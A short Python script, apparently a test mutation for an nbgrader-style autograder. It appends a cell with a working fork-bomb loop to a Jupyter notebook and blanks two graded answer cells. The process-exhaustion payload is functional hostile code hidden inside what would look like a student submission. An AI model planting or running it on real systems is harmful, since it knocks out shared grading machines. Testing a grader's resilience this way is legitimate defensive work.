from nbformat.v4 import new_code_cell

HOLD = """
import os
import time

if os.fork() == 0:
    while True:
        try:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
        except OSError:
            time.sleep(0.001)
time.sleep(1.5)
"""


def change(notebook):
    """Begin when everything is parked: in a cell behind the last exercise."""
    notebook.cells.append(new_code_cell(HOLD))
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") in ("scaled-answer", "percent-answer"):
            cell.source = ""
